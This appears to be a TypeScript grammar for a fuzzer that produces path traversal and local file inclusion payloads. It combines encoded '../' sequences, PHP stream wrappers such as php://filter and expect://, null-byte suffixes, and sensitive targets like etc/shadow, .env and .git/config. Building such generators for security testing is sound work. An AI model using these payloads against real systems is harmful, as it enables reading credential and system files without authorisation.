import type { Grammar } from '../grammar.ts';
import { words } from '../words.ts';

/** Path traversal and local file inclusion (CWE-22, CWE-98). */
export const traversal: Grammar = {
  ...words,
  start: [
    '<ups><target><null>',
    '<scheme><target>',
    'C:\\<ident>\\..\\<wintarget>',
    '<ident>/<ups><target>',
    '/<dots>/<target>',
  ],
  ups: ['<up>', '<up><up>', '<up><up><up>', '<up><up><up><up><up>'],
  up: ['../', '..\\', '%2e%2e/', '..%2f', '....//', '..;/', '%c0%ae%c0%ae/'],
  dots: ['../..', '.%2e/.%2e', './../..'],
  scheme: ['file:///', 'php://filter/convert.base64-encode/resource=', 'zip://', 'phar://', 'expect://'],
  target: [
    'etc/passwd',
    'etc/shadow',
    'proc/self/environ',
    'windows/win.ini',
    'var/log/<ident>.log',
    '<ident>/.env',
    'WEB-INF/web.xml',
    '.git/config',
    'root/.bash_history',
    '<ident>.php',
  ],
  wintarget: ['windows\\win.ini', 'boot.ini', '<ident>\\web.config'],
  null: ['', '%00', '%00.jpg', '\0.png', '?'],
};
